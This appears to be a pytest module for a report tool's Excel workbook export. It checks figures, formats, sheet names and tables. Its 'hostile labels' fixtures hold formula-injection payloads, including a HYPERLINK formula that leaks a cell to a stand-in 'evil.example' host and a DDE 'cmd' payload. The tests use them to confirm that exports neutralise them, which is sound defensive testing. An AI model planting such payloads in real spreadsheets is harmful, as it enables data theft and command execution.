"""The analyst workbook, checked by re-opening it: numbers, names, formats, links, safety.

Numbers are compared with figures.json by exact equality: the workbook must
hold the report's own numbers, never a rounded or recomputed copy. The
Breakdowns table is re-aggregated with pandas to the headline figures, and
the Daily sheet is checked against plain SQL on the raw demo rows. The
hostile-label document (also used by the CSV tests) carries every label an
attacker or an odd config could produce.
"""

from __future__ import annotations

import dataclasses
import json
import re
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from reportgen.analysis.followup import FollowUp
from reportgen.document import Brand, DefinitionList, Document
from reportgen.errors import RenderError
from reportgen.formatting import office_number_format
from reportgen.ops.rca import RcaItem
from reportgen.render import get_renderer
from reportgen.render.tables._all import export_tables
from reportgen.render.tables._safe_cells import is_formula_like, xlsx_text
from reportgen.render.tables.xlsx import MAX_WIDTH, MIN_WIDTH, SheetNames, render_xlsx, table_name

from ._office import soffice
from ._sample import sample_document

INVALID_SHEET_CHARS = set("[]:*?/\\")
TABLE_NAME = re.compile(r"^[A-Za-z_][A-Za-z0-9_.]*$")
#: metrics whose sums are whole counts: their re-aggregation is exact to the last bit
COUNTED = {"decisions", "backlog", "sla_attainment", "qa_accuracy", "overturn_rate"}
COUNTED |= {"automation_rate", "proactive_rate"}


# -- the demo report as a workbook ------------------------------------------------------------


@pytest.fixture(scope="module")
def exported(exports_report):
    return exports_report


@pytest.fixture(scope="module")
def figures(exported) -> dict[str, Any]:
    return json.loads(exported.artifacts["figures"].read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def workbook(exported) -> Workbook:
    return load_workbook(exported.artifacts["xlsx"])


@pytest.fixture(scope="module")
def breakdowns(exported) -> pd.DataFrame:
    return pd.read_excel(exported.artifacts["xlsx"], sheet_name="Breakdowns")


def records(sheet) -> list[dict[str, Any]]:
    """The rows of a sheet's table as header → cell."""
    rows = list(sheet.iter_rows())
    headers = [c.value for c in rows[0]]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


def test_the_workbook_lands_beside_the_other_artifacts(exported) -> None:
    path = exported.artifacts["xlsx"]
    assert path.name == "weekly_leadership_2026-W47.xlsx"
    assert path.parent == exported.out_dir and path.is_file()


def test_sheet_order_and_names(workbook: Workbook) -> None:
    assert workbook.sheetnames == [
        "Index",
        "Summary",
        "Series",
        "Breakdowns",
        "Series by region",
        "Series by queue",
        "Series by site",
        "Series by region × queue",
        "Series by region × site",
        "Segment changes",
        "Daily",
        "Anomalies",
        "Decomposition",
        "Decomposition terms",
        "Tests",
        "Segment differences",
        "Forecasts",
        "Pace to target",
        "Definitions",
        "About",
    ]
    names = workbook.sheetnames
    assert all(len(n) <= 31 and "…" not in n and not INVALID_SHEET_CHARS & set(n) for n in names)
    assert len({n.lower() for n in names}) == len(names)


def test_the_index_links_to_every_sheet_with_a_description(workbook: Workbook) -> None:
    rows = records(workbook["Index"])
    assert [r["Sheet"].value for r in rows] == workbook.sheetnames[1:]
    for row in rows:
        link = row["Sheet"].hyperlink
        name = row["Sheet"].value
        assert link is not None and link.location == "'" + name.replace("'", "''") + "'!A1"
        assert not link.target  # inside the workbook, never a URL
        description = row["What it answers"].value
        assert description and "\n" not in description and description != name
        assert row["Rows"].value == workbook[name].max_row - 1 or row["Rows"].value == 0
    breakdowns = next(r for r in rows if r["Sheet"].value == "Breakdowns")
    assert "Σ numerator / Σ denominator" in breakdowns["What it answers"].value


def test_every_sheet_is_one_excel_table_with_filter_buttons(workbook: Workbook) -> None:
    seen = set()
    for ws in workbook:
        assert len(ws.tables) == 1, ws.title
        (name,) = ws.tables
        table = ws.tables[name]
        assert TABLE_NAME.match(name) and name.startswith("tbl_")
        assert table.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
        assert table.autoFilter is not None  # the filter buttons
        assert table.tableStyleInfo.name and table.tableStyleInfo.showRowStripes
        seen.add(name.lower())
    assert len(seen) == len(workbook.sheetnames)
    assert {"tbl_index", "tbl_summary", "tbl_breakdowns", "tbl_daily", "tbl_about"} <= seen


def test_header_row_and_label_column_are_frozen_in_the_brand_colour(workbook, brand) -> None:
    primary = brand.primary.lstrip("#").upper()
    for ws in workbook:
        if not ws.title.startswith("Series by"):  # those keep their key columns (below)
            assert ws.freeze_panes == "B2", ws.title
        assert ws.cell(1, 1).value in ("Metric", "Sheet", "Field"), ws.title  # the label first
        for cell in ws[1]:
            assert cell.fill.fgColor.rgb == "FF" + primary, (ws.title, cell.value)
            assert cell.font.bold and cell.font.color.rgb == "FFFFFFFF"
            assert cell.font.name == brand.font_family


def test_series_sheets_keep_every_key_column_in_view(workbook: Workbook) -> None:
    for ws in workbook:
        if not ws.title.startswith("Series by"):
            continue
        headers = [c.value for c in ws[1]]
        first_period = headers.index("Measure") + 1
        assert headers[first_period].startswith("2026-W"), ws.title
        assert ws.freeze_panes == f"{ws.cell(1, first_period + 1).column_letter}2", ws.title
        assert headers[:2] == ["Metric", "Metric id"]


def test_label_comes_before_id(workbook: Workbook) -> None:
    for ws in workbook:
        headers = [c.value for c in ws[1]]
        if "Metric id" in headers:
            assert headers.index("Metric") == headers.index("Metric id") - 1 == 0, ws.title


def test_column_widths_fit_the_content(workbook: Workbook) -> None:
    for ws in workbook:
        for col in range(1, ws.max_column + 1):
            letter = ws.cell(1, col).column_letter
            width = ws.column_dimensions[letter].width
            header = str(ws.cell(1, col).value)
            assert MIN_WIDTH <= width <= MAX_WIDTH, (ws.title, header)
            assert width >= min(len(header) + 3, MAX_WIDTH), (ws.title, header)
    summary = workbook["Summary"]
    assert summary.column_dimensions["A"].width > len("Proactive detection rate")
    detail = workbook["Anomalies"]
    headers = [c.value for c in detail[1]]
    letter = detail.cell(1, headers.index("Detail") + 1).column_letter
    assert detail.column_dimensions[letter].width == MAX_WIDTH  # long sentences wrap instead
    assert detail[f"{letter}2"].alignment.wrap_text


# -- summary and series ---------------------------------------------------------------------------


def test_summary_numbers_equal_figures_json_exactly(workbook: Workbook, figures) -> None:
    rows = {r["Metric id"].value: r for r in records(workbook["Summary"])}
    assert list(rows) == list(figures["metrics"])
    tests = figures["insights"]["tests"]
    for name, m in figures["metrics"].items():
        row = rows[name]
        assert row["Metric"].value == m["label"]
        assert row["Period"].value == "2026-W47"
        for header, key in [
            ("Current", "value"),
            ("Previous", "previous"),
            ("Δ", "delta"),
            ("Δ %", "delta_pct"),
            ("Last year", "last_year"),
            ("Target", "target"),
            ("vs target", "vs_target"),
        ]:
            assert row[header].value == m[key], (name, header)
            if isinstance(m[key], float):
                assert row[header].data_type == "n"
        status = {True: "met", False: "missed", None: None}[m["target_met"]]
        assert row["Target status"].value == status
        assert row["p-value"].value == tests[name].get("p_value")
        assert row["Significant"].value == tests[name]["significant"]
        assert row["Test"].value == tests[name].get("test")
    assert rows["aht"]["Direction"].value == "lower is better"
    assert rows["aht"]["Unit"].value == "seconds"


def test_summary_number_formats_match_the_report(workbook: Workbook, figures) -> None:
    rows = {r["Metric id"].value: r for r in records(workbook["Summary"])}
    for name, m in figures["metrics"].items():
        fmt = office_number_format(m["format"], m["decimals"])
        for header in ("Current", "Previous", "Last year", "Target"):
            if rows[name][header].value is not None:
                assert rows[name][header].number_format == fmt, (name, header)
        assert rows[name]["Δ %"].number_format == '+0.0%;"−"0.0%;0.0%'
    # negative sections draw U+2212, the one minus sign of the report
    assert rows["aht"]["Current"].number_format == '#,##0.0" s";"−"#,##0.0" s"'
    assert rows["aht"]["Δ"].number_format == '+#,##0.0" s";"−"#,##0.0" s";#,##0.0" s"'
    assert rows["sla_attainment"]["Current"].number_format == '0.0%;"−"0.0%'
    assert rows["sla_attainment"]["vs target"].number_format == '+0.0%;"−"0.0%;0.0%'
    assert rows["decisions"]["Current"].number_format == '#,##0;"−"#,##0'
    assert rows["decisions"]["Δ"].number_format == '+#,##0;"−"#,##0;#,##0'
    assert rows["throughput"]["Current"].number_format == '#,##0.0;"−"#,##0.0'


def test_negative_changes_are_numbers(workbook: Workbook, figures) -> None:
    rows = {r["Metric id"].value: r for r in records(workbook["Summary"])}
    assert figures["metrics"]["throughput"]["delta"] < 0
    cell = rows["throughput"]["Δ"]
    assert cell.data_type == "n" and cell.value == figures["metrics"]["throughput"]["delta"]


def _rules(ws) -> dict[str, list[str]]:
    """Conditional formatting: cell range → the rules' formulas."""
    return {
        str(cf.sqref): [f for rule in cf.rules for f in rule.formula]
        for cf in ws.conditional_formatting
    }


def test_target_status_is_coloured_by_conditional_formatting(workbook: Workbook, brand) -> None:
    ws = workbook["Summary"]
    headers = [c.value for c in ws[1]]
    status = ws.cell(1, headers.index("Target status") + 1).column_letter
    current = ws.cell(1, headers.index("Current") + 1).column_letter
    rules = _rules(ws)
    last = ws.max_row
    for letter in (current, status):
        formulas = rules[f"{letter}2:{letter}{last}"]
        assert f'OR(${status}2="met",${status}2="good")' in formulas
        assert f'OR(${status}2="missed",${status}2="bad")' in formulas
    fonts = {
        rule.dxf.font.color.rgb
        for cf in ws.conditional_formatting
        for rule in cf.rules
        if rule.dxf and rule.dxf.font
    }
    assert fonts == {"FF" + brand.good.lstrip("#").upper(), "FF" + brand.bad.lstrip("#").upper()}
    # every table with a status column is coloured the same way, and no cell holds a formula
    for title in ("Series", "Breakdowns", "Segment changes", "Anomalies"):
        assert workbook[title].conditional_formatting, title


def test_series_sheet_has_the_sums_target_and_last_year(workbook: Workbook, figures) -> None:
    rows = records(workbook["Series"])
    expected = [(n, p) for n, m in figures["metrics"].items() for p in m["series"]]
    assert len(rows) == len(expected) == 13 * len(figures["metrics"])
    for row, (name, point) in zip(rows, expected, strict=True):
        m = figures["metrics"][name]
        assert (row["Metric id"].value, row["Period"].value) == (name, point["period"])
        assert row["Value"].value == point["value"]
        assert row["Start"].value.date() == date.fromisoformat(point["start"])
        assert row["Start"].number_format == "yyyy-mm-dd"
        assert row["Value"].number_format == office_number_format(m["format"])
        if point["period"] == "2026-W47":
            assert row["Target"].value == m["target"]
            assert row["Last year"].value == m["last_year"]
            if m["stats"].get("denominator") is not None:
                assert row["Numerator"].value == pytest.approx(m["stats"]["numerator"], rel=1e-12)
                assert row["Denominator"].value == pytest.approx(
                    m["stats"]["denominator"], rel=1e-12
                )


# -- the Breakdowns table -----------------------------------------------------------------------


def test_breakdowns_cover_every_dimension_segment_and_period(breakdowns, figures) -> None:
    periods = [p["period"] for p in figures["metrics"]["aht"]["series"]]
    dims = set(breakdowns["Dimension"])
    assert dims == {"region", "queue", "site", "region × queue", "region × site"}
    for name, m in figures["metrics"].items():
        rows = breakdowns[breakdowns["Metric id"] == name]
        for dimension, segments in m["breakdowns"].items():
            shown = rows[(rows["Dimension"] == dimension) & (rows["Period"] == "2026-W47")]
            assert set(shown["Segment"]) >= {s["segment"] for s in segments}, (name, dimension)
        assert list(dict.fromkeys(rows["Period"])) == periods, name
    crossed = breakdowns[breakdowns["Dimension"] == "region × queue"]
    assert (crossed["Segment"] == crossed["Region"] + " × " + crossed["Queue"]).all()
    assert crossed["Site"].isna().all()


def test_breakdowns_reaggregate_to_the_headline_in_every_period(breakdowns, figures) -> None:
    """Σ numerator / Σ denominator per period and dimension = the metric in figures.json."""
    checked = set()
    for name, m in figures["metrics"].items():
        if m["type"] == "quantile":  # quantiles do not re-aggregate (hence their sketch)
            continue
        rows = breakdowns[breakdowns["Metric id"] == name]
        sums = rows.groupby(["Dimension", "Period"])[["Numerator", "Denominator"]].sum(min_count=1)
        expected = {p["period"]: p["value"] for p in m["series"]}
        for (dimension, period), row in sums.iterrows():
            if pd.isna(row["Denominator"]):
                value = row["Numerator"]  # a total: Σ numerator
            else:
                value = row["Numerator"] / row["Denominator"]
            if name in COUNTED:  # whole counts add up exactly, so does their ratio
                assert value == expected[period], (name, dimension, period)
            else:  # hours and seconds: the order of a float sum moves the last bit
                assert value == pytest.approx(expected[period], rel=1e-12), (name, dimension)
            checked.add(m["type"])
    assert checked == {"total", "mean", "ratio", "proportion"}


def test_breakdown_values_are_the_ratio_of_their_own_sums(breakdowns, figures) -> None:
    ratios = breakdowns[breakdowns["Denominator"] > 0]
    types = {n: m["type"] for n, m in figures["metrics"].items()}
    ratios = ratios[ratios["Metric id"].map(types) != "derived"]
    assert len(ratios) > 10_000
    assert (ratios["Value"] == ratios["Numerator"] / ratios["Denominator"]).all()


def test_the_current_period_rows_equal_the_reports_segments(breakdowns, figures) -> None:
    current = breakdowns[breakdowns["Period"] == "2026-W47"].set_index(
        ["Metric id", "Dimension", "Segment"]
    )
    for name, m in figures["metrics"].items():
        for dimension, segments in m["breakdowns"].items():
            for s in segments:
                row = current.loc[(name, dimension, s["segment"])]
                if s["value"] is None:  # a zero denominator: no value
                    assert pd.isna(row["Value"])
                else:
                    assert row["Value"] == pytest.approx(s["value"], rel=1e-12)
                    assert row["n"] > 0


def test_breakdowns_last_year_is_the_segment_a_year_earlier(raw, demo_dir, breakdowns) -> None:
    """QA accuracy by region in 2026-W47's row = plain SQL on 2025-W47's raw rows."""
    rows = breakdowns[
        (breakdowns["Metric id"] == "qa_accuracy")
        & (breakdowns["Dimension"] == "region")
        & (breakdowns["Period"] == "2026-W47")
    ]
    expected = dict(
        raw.execute(
            f"""
            SELECT region, count(*) FILTER (qa_sampled AND qa_correct) / count(*) FILTER (qa_sampled)
            FROM read_parquet('{demo_dir}/decisions/*.parquet')
            WHERE decided_at >= TIMESTAMPTZ '2025-11-17 00:00:00+00'
              AND decided_at < TIMESTAMPTZ '2025-11-24 00:00:00+00'
            GROUP BY region
            """
        ).fetchall()
    )
    assert len(rows) == len(expected)
    for _, row in rows.iterrows():
        assert row["Last year"] == pytest.approx(expected[row["Segment"]], rel=1e-12)


def test_breakdowns_header_states_the_aggregation_rule(workbook: Workbook) -> None:
    ws = workbook["Breakdowns"]
    notes = {c.value: c.comment.text for c in ws[1] if c.comment}
    assert "Σ Numerator / Σ Denominator" in notes["Value"]
    assert "never the average of Value" in notes["Value"]
    assert "Numerator" in notes and "n" in notes


def test_series_by_sheets_hold_value_numerator_and_denominator(workbook, breakdowns) -> None:
    ws = workbook["Series by region × queue"]
    frame = pd.DataFrame(ws.values)
    frame.columns = frame.iloc[0]
    frame = frame.iloc[1:]
    harassment = frame[(frame["Metric id"] == "aht") & (frame["Queue"] == "Harassment")]
    assert set(harassment["Measure"]) == {"Value", "Numerator", "Denominator"}
    assert len(set(harassment["Region"])) >= 6  # the question: is it up in every region?
    source = breakdowns[
        (breakdowns["Metric id"] == "aht") & (breakdowns["Dimension"] == "region × queue")
    ].set_index(["Segment", "Period"])
    for _, row in harassment.iterrows():
        segment = f"{row['Region']} × Harassment"
        measure = row["Measure"]
        for period in (c for c in frame.columns if str(c).startswith("2026-W")):
            expected = source.loc[(segment, period), measure]
            assert row[period] == expected or (pd.isna(expected) and row[period] is None)


# -- segments of the built period, days, anomalies ----------------------------------------------------


def test_segment_changes_equal_figures_json(workbook: Workbook, figures) -> None:
    rows = records(workbook["Segment changes"])
    expected = [
        (n, d, s)
        for n, m in figures["metrics"].items()
        for d, segments in m["breakdowns"].items()
        for s in segments
    ]
    assert len(rows) == len(expected)
    for row, (name, dimension, e) in zip(rows, expected, strict=True):
        assert (row["Metric id"].value, row["Dimension"].value) == (name, dimension)
        assert row["Segment"].value == e["segment"]
        for header, key in [("Value", "value"), ("Previous", "previous"), ("Δ", "delta")]:
            assert row[header].value == e[key]
        assert (row["Δ %"].value, row["Share"].value) == (e["delta_pct"], e["share"])
        assert row["Share"].number_format == "0.0%"
        stats = {k: v for k, v in e["stats"].items() if v is not None}
        if "numerator" in stats:
            assert row["Numerator"].value == stats["numerator"]
            assert row["Previous denominator"].value == e["previous_stats"]["denominator"]
        elif "sum" in stats:
            assert (row["Numerator"].value, row["Denominator"].value) == (
                stats["sum"],
                stats["count"],
            )
            assert row["Sum of squares"].value == stats["sum_squares"]
        elif "total" in stats:  # a total: its Σ is the numerator, there is no denominator
            assert (row["Numerator"].value, row["Denominator"].value) == (stats["total"], None)


DAY0 = date(2026, 11, 16)


def test_daily_sheet_sums_equal_sql_on_the_raw_rows(raw, demo_dir, exported) -> None:
    daily = pd.read_excel(exported.artifacts["xlsx"], sheet_name="Daily")
    assert sorted({d.date() for d in daily["Day"]}) == [DAY0 + timedelta(days=i) for i in range(7)]
    sql = f"""
        SELECT CAST(decided_at AS DATE) AS day, region,
               count(*) AS decisions,
               count(*) FILTER (decided_at <= enqueued_at + sla_hours * INTERVAL '1 hour') AS sla_met,
               sum(handle_seconds) FILTER (NOT automated) AS handle_seconds,
               count(*) FILTER (NOT automated) AS manual
        FROM read_parquet('{demo_dir}/decisions/*.parquet')
        WHERE decided_at >= TIMESTAMPTZ '2026-11-16 00:00:00+00'
          AND decided_at < TIMESTAMPTZ '2026-11-23 00:00:00+00'
        GROUP BY ALL
    """
    expected = raw.execute(sql).df().set_index(["day", "region"])
    rows = daily[daily["Dimension"] == "region"].copy()
    rows["day"] = rows["Day"].dt.date
    for metric, numerator, denominator in [
        ("decisions", "decisions", None),
        ("sla_attainment", "sla_met", "decisions"),
        ("aht", "handle_seconds", "manual"),
    ]:
        got = rows[rows["Metric id"] == metric].set_index(["day", "Segment"])
        assert len(got) == len(expected) == 7 * 8
        for (day, region), e in expected.iterrows():
            row = got.loc[(pd.Timestamp(day).date(), region)]
            assert row["Numerator"] == pytest.approx(e[numerator], rel=1e-12), (metric, day)
            if denominator:
                assert row["Denominator"] == e[denominator]
                assert row["Value"] == pytest.approx(e[numerator] / e[denominator], rel=1e-12)
    totals = daily[(daily["Dimension"] == "total") & (daily["Metric id"] == "decisions")]
    assert totals["Numerator"].sum() == expected["decisions"].sum()


def test_anomalies_sheet(workbook: Workbook, figures) -> None:
    rows = records(workbook["Anomalies"])
    anomalies = figures["insights"]["anomalies"]
    assert [r["Anomaly id"].value for r in rows] == [a["id"] for a in anomalies]
    for row, a in zip(rows, anomalies, strict=True):
        for header, key in [("Observed", "observed"), ("Baseline", "baseline"), ("Δ", "delta")]:
            assert row[header].value == a[key]
        assert row["Robust z"].value == a["robust_z"]
        assert row["Detail"].value == a["detail"]
        assert row["Status"].value == "no cause recorded"  # this build has no ledger
        if a["method"] == "share":  # a share is a percentage whatever the metric's unit
            assert row["Observed"].number_format == "0.0%"


def _rca(anomaly, item_id: int, status: str, owner: str) -> RcaItem:
    return RcaItem(
        id=item_id,
        anomaly_id=anomaly.id,
        report="weekly_leadership",
        audience="leadership",
        metric=anomaly.metric,
        dimension=anomaly.dimension,
        segment=anomaly.segment,
        method=anomaly.method,
        period="2026-W46",
        observed=anomaly.observed,
        baseline=anomaly.baseline,
        direction=anomaly.direction,
        detail=anomaly.detail,
        cause="vendor outage at the site",
        owner=owner,
        action="fail over to the backup queue",
        due=None,
        status=status,
        outcome=None,
        created_at=datetime(2026, 11, 18, tzinfo=UTC),
        closed_at=None,
    )


def test_anomalies_carry_the_owner_cause_and_status_of_their_follow_up(exported) -> None:
    """An RCA item recorded against an anomaly (or its earlier occurrence) fills its row."""
    data = exported.document.exports
    first, second = data.insights.anomalies[:2]
    followups = (
        FollowUp(_rca(first, 1, "open", "ops-emea"), 7, None, None, None, None, ()),
        # recorded against last week's occurrence; this week's anomaly recurs
        FollowUp(_rca(second, 2, "closed", "=quality"), 7, None, None, None, True, (second.id,)),
    )
    insights = dataclasses.replace(data.insights, followups=followups)
    document = dataclasses.replace(
        exported.document, exports=dataclasses.replace(data, insights=insights)
    )
    (table,) = [t for t in export_tables(document) if t.name == "anomalies"]
    keys = [c.key for c in table.columns]
    rows = {r.values[keys.index("id")]: dict(zip(keys, r.values, strict=True)) for r in table.rows}
    assert rows[first.id]["owner"] == "ops-emea" and rows[first.id]["status"] == "open"
    assert rows[first.id]["cause"] == "vendor outage at the site"
    assert rows[second.id]["status"] == "closed" and rows[second.id]["rca_item"] == 2
    others = [r for i, r in rows.items() if i not in (first.id, second.id)]
    assert {r["status"] for r in others} == {"no cause recorded"}


def test_decomposition_sheets(workbook: Workbook, figures) -> None:
    decompositions = figures["insights"]["decompositions"]
    totals = {r["Metric id"].value: r for r in records(workbook["Decomposition"])}
    assert list(totals) == list(decompositions)
    terms = records(workbook["Decomposition terms"])
    expected = [(n, t) for n, d in decompositions.items() for t in d["terms"]]
    assert len(terms) == len(expected)
    for name, d in decompositions.items():
        for header, key in [("Change", "change"), ("Mix effect", "mix"), ("Rate effect", "rate")]:
            assert totals[name][header].value == d[key]
    for row, (name, t) in zip(terms, expected, strict=True):
        assert row["Metric id"].value == name
        assert row["Segment"].value == " × ".join(t["segment"])
        assert (row["Mix effect"].value, row["Rate effect"].value) == (t["mix"], t["rate"])
        assert row["Share current"].value == t["share1"]
        named = any(list(s) == t["segment"] for s in decompositions[name]["shown"])
        assert row["Named in report"].value == ("yes" if named else "no")


def test_tests_sheets(workbook: Workbook, figures) -> None:
    insights = figures["insights"]
    rows = records(workbook["Tests"])
    totals = [r for r in rows if r["Segment"].value is None]
    assert [r["Metric id"].value for r in totals] == list(insights["tests"])
    for row in totals:
        test = insights["tests"][row["Metric id"].value]
        assert row["p-value"].value == test.get("p_value")
        assert row["Statistic"].value == test.get("statistic")
        if test.get("n"):
            assert (row["n current"].value, row["n previous"].value) == tuple(test["n"])
        else:
            assert row["Note"].value == test["reason"]
    segments = [r for r in rows if r["Segment"].value is not None]
    expected = [
        (st["metric"], st["dimension"], seg, t)
        for st in insights["segment_tests"]
        for seg, t in st["changes"].items()
    ]
    assert len(segments) == len(expected)
    for row, (metric, dimension, segment, t) in zip(segments, expected, strict=True):
        assert (row["Metric id"].value, row["Dimension"].value) == (metric, dimension)
        assert row["Segment"].value == segment
        assert (row["p-value"].value, row["q-value"].value) == (t.get("p_value"), t["q_value"])
    across = records(workbook["Segment differences"])
    expected_across = [st for st in insights["segment_tests"] if st["across"]]
    assert [(r["Metric id"].value, r["Dimension"].value) for r in across] == [
        (st["metric"], st["dimension"]) for st in expected_across
    ]
    for row, st in zip(across, expected_across, strict=True):
        assert row["p-value"].value == st["across"]["p_value"]


def test_definitions_sheet_comes_from_the_catalog(workbook: Workbook, exported) -> None:
    rows = {r["Metric id"].value: r for r in records(workbook["Definitions"])}
    items = {
        d.term: d
        for s in exported.document.sections
        for b in s.blocks
        if isinstance(b, DefinitionList)
        for d in b.items
    }
    # thirteen metrics and the drivers' method (no metric id)
    assert len(rows) == len(items) == 14
    assert rows[None]["Metric"].value == "Drivers (mix and rate effects)"
    aht = rows["aht"]
    assert aht["Metric"].value == "Average handle time"
    assert aht["Formula"].value == items["Average handle time"].formula
    assert "handle_seconds" in aht["Formula"].value
    assert aht["Owner"].value == dict(items["Average handle time"].extra)["Owner"]
    assert aht["Better"].value == "lower"


def test_about_sheet_traces_the_workbook(workbook: Workbook, figures) -> None:
    about = {r["Field"].value: r["Value"].value for r in records(workbook["About"])}
    assert about["Report"] == "weekly_leadership"
    assert about["Period"] == "2026-W47"
    assert about["Timezone"] == "UTC"
    assert about["Audience"] == "leadership"
    assert about["Built at"] == "2026-11-25T07:00:00+00:00"
    assert about["Config hash"] == figures["config_hash"]
    assert about["Tool version"].startswith("reportgen ")
    assert about["Source: decisions"] == figures["sources"]["decisions"]
    assert about["figures.json schema"] == str(figures["schema_version"])


def test_the_demo_workbook_holds_no_formula(workbook: Workbook) -> None:
    assert not [
        c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]


def test_a_document_without_figures_is_a_render_error(brand: Brand, tmp_path: Path) -> None:
    with pytest.raises(RenderError, match="carries no figures"):
        render_xlsx(sample_document(brand), tmp_path / "x.xlsx")


def test_xlsx_and_csv_are_registered_formats() -> None:
    assert get_renderer("xlsx")[1] == ".xlsx"
    assert get_renderer("csv")[1] == "_csv"


# -- Excel's naming rules ---------------------------------------------------------------


def test_sheet_names_are_valid_and_unique() -> None:
    names = SheetNames()
    long = "A very long metric label that goes on and on"
    claimed = [
        names.claim("Summary"),
        names.claim("summary"),  # case-insensitive duplicate
        names.claim(long, " by region"),
        names.claim(long + " (other)", " by region"),  # collides after shortening
        names.claim("Rate [a]: b*c?/d\\e"),
        names.claim("History"),  # reserved by Excel
        names.claim("'quoted'"),
        names.claim("📈" * 40),  # counted in UTF-16 units, as Excel does
        names.claim(""),
    ]
    assert claimed[0] == "Summary" and claimed[1] == "summary (2)"
    # shortened at a word, without "…", keeping the dimension
    assert claimed[2] == "A very long metric by region"
    assert claimed[3] == "A very long by region (2)"
    assert claimed[4] == "Rate a b c d e"
    assert claimed[5] == "History (2)"
    assert claimed[6] == "quoted"
    assert claimed[8] == "Sheet"
    assert claimed[7] == "📈" * 15  # 30 units: a 31st would split an emoji
    for name in claimed:
        assert "…" not in name
        assert 0 < len(name.encode("utf-16-le")) // 2 <= 31, name
        assert not INVALID_SHEET_CHARS & set(name)
        assert not name.startswith("'") and not name.endswith("'")
    assert len({n.lower() for n in claimed}) == len(claimed)


@pytest.mark.parametrize("name", ["aht1", "r1c1", "summary", "x" * 300, "a-b.c d"])
def test_table_names_are_never_cell_references(name: str) -> None:
    result = table_name(name)
    assert TABLE_NAME.match(result) and len(result) <= 255
    assert result.startswith("tbl_")  # "aht1" or "R1C1" alone would be a cell reference


# -- hostile labels ---------------------------------------------------------------------------

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "+1+2",
    "-3+4",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    " =cmd|' /C calc'!A0",
    "\x01=ctl",  # not allowed in XML: dropped, and the rest is still neutralised
    "-negative-looking",
    "Plain segment",
    "S" * 200,
)
#: the demo's regions, renamed to the hostile labels (queues and sites keep theirs)
REGIONS = ("Africa", "East Asia", "Europe", "Latin America", "Middle East", "North America")
REGIONS += ("South Asia", "Southeast Asia")
HOSTILE_NAMES = {
    **dict(zip(REGIONS, HOSTILE, strict=False)),
    "Average handle time": "=cmd|' /C calc'!A0",
    "QA accuracy": "@evil",
    "Backlog": "L" * 200,
    "site": "site/x[1]:*?",  # a dimension whose name Excel refuses in a sheet name
}
HOSTILE_METRICS = {"aht", "qa_accuracy", "backlog"}


def relabel(value: Any, names: dict[str, str]) -> Any:
    """``value`` with every string (and dict key) found in ``names`` replaced, all the way down."""
    if isinstance(value, str):
        return names.get(value, value)
    if isinstance(value, tuple):
        return tuple(relabel(v, names) for v in value)
    if isinstance(value, list):
        return [relabel(v, names) for v in value]
    if isinstance(value, dict):
        return {relabel(k, names): relabel(v, names) for k, v in value.items()}
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        changes = {
            f.name: relabel(getattr(value, f.name), names)
            for f in dataclasses.fields(value)
            if f.init
        }
        return dataclasses.replace(value, **changes)
    return value


def hostile_document(document: Document) -> Document:
    """The demo workbook's document (three metrics) with hostile labels in every text field."""
    data = document.exports
    figures = dataclasses.replace(
        data.figures,
        metrics={k: m for k, m in data.figures.metrics.items() if k in HOSTILE_METRICS},
    )
    series = dataclasses.replace(
        data.series,
        points=tuple(p for p in data.series.points if p.metric in HOSTILE_METRICS),
        daily=tuple(p for p in data.series.daily if p.metric in HOSTILE_METRICS),
    )
    provenance = dataclasses.replace(data.provenance, title="=2+2", config="=config.yaml")
    exports = dataclasses.replace(data, figures=figures, series=series, provenance=provenance)
    hostile = relabel(exports, HOSTILE_NAMES)
    return dataclasses.replace(document, title="=2+2", exports=hostile)


@pytest.fixture(scope="module")
def hostile_workbook(exported, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.xlsx"
    render_xlsx(hostile_document(exported.document), path)
    return path


def test_hostile_workbook_has_valid_unique_names(hostile_workbook: Path) -> None:
    wb = load_workbook(hostile_workbook)
    names = wb.sheetnames
    assert all(0 < len(n) <= 31 and not INVALID_SHEET_CHARS & set(n) for n in names)
    assert all("…" not in n for n in names)
    assert len({n.lower() for n in names}) == len(names)
    assert "Series by site x 1" in names and "Series by region × site x 1" in names
    tables = [t for ws in wb for t in ws.tables]
    assert all(TABLE_NAME.match(t) for t in tables)
    assert len({t.lower() for t in tables}) == len(tables)
    assert "tbl_series_by_site_x_1" in tables


def test_hostile_workbook_is_formula_free(hostile_workbook: Path) -> None:
    wb = load_workbook(hostile_workbook)
    texts = 0
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.value)
                    texts += 1
    assert texts > 500


def test_hostile_labels_keep_their_text(hostile_workbook: Path) -> None:
    wb = load_workbook(hostile_workbook)
    rows = records(wb["Breakdowns"])
    regions = [r["Segment"].value for r in rows if r["Dimension"].value == "region"]
    assert set(regions) == {xlsx_text(s) for s in HOSTILE[: len(REGIONS)]}
    assert {r["Metric"].value for r in rows} == {"=cmd|' /C calc'!A0", "@evil", "L" * 200}
    negative = [r["Δ"] for r in records(wb["Segment changes"]) if (r["Δ"].value or 0) < 0]
    assert negative and all(c.data_type == "n" for c in negative)  # negative numbers stay numbers
    about = {r["Field"].value: r["Value"] for r in records(wb["About"])}
    assert about["Title"].value == "=2+2" and about["Title"].data_type == "s"
    index = records(wb["Index"])
    assert all(r["Sheet"].hyperlink.location.endswith("'!A1") for r in index)


# -- LibreOffice ------------------------------------------------------------------------------


@pytest.mark.slow
def test_libreoffice_opens_the_workbook(exported, workbook: Workbook, tmp_path: Path) -> None:
    """LibreOffice reads every sheet and saves it back with its links, colours and numbers.

    A re-save, not a PDF: printing 25,000 Breakdowns rows takes LibreOffice
    minutes, while opening and saving is what an analyst does.
    """
    xlsx = exported.artifacts["xlsx"]
    out = tmp_path / "out"
